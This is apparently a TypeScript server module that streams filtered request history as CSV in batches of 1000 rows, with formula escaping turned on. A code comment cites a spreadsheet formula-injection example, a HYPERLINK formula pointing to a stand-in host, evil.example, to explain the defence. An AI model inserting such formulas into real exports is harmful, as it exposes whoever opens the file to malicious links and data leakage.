import "server-only";
import { stringify } from "csv-stringify/sync";
import type { Kysely } from "kysely";
import type { Database } from "@/lib/db/schema";
import type { HistoryFilters } from "./filters";
import { listHistory } from "./queries";

const HEADER = ["id", "created_at", "environment", "sent_by", "source", "replay_of", "user_id", "company_id", "property_count", "status", "upstream_request_id", "latency_ms", "request_body"];
const BATCH = 1000;
// A cell starting with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet: an id such as
// =HYPERLINK("https://evil.example",...) would run when the export is opened. Such cells get a leading '.
const CSV_OPTIONS = { escape_formulas: true } as const;

/** The filtered history as CSV, streamed in keyset batches so a large export never sits in memory. */
export function historyCsvStream(db: Kysely<Database>, filters: HistoryFilters): ReadableStream<Uint8Array> {
  const encoder = new TextEncoder();
  let cursor: string | undefined;
  let started = false;
  return new ReadableStream({
    async pull(controller) {
      if (!started) {
        started = true;
        controller.enqueue(encoder.encode(stringify([HEADER], CSV_OPTIONS)));
      }
      const page = await listHistory(db, filters, { cursor, limit: BATCH });
      if (page.rows.length > 0) {
        const bodies = await db
          .selectFrom("requests")
          .select(["id", "request_body"])
          .where("id", "in", page.rows.map((row) => row.id))
          .execute();
        const bodyOf = new Map(bodies.map((row) => [row.id, row.request_body]));
        const records = page.rows.map((row) => [
          row.id,
          new Date(row.created_at).toISOString(),
          row.environment,
          row.sent_by ?? "",
          row.source,
          row.replay_of ?? "",
          row.user_id,
          row.company_id ?? "",
          row.property_count,
          row.status,
          row.upstream_request_id ?? "",
          row.latency_ms ?? "",
          bodyOf.get(row.id) ?? "",
        ]);
        controller.enqueue(encoder.encode(stringify(records, CSV_OPTIONS)));
      }
      if (!page.nextCursor) controller.close();
      else cursor = page.nextCursor;
    },
  });
}
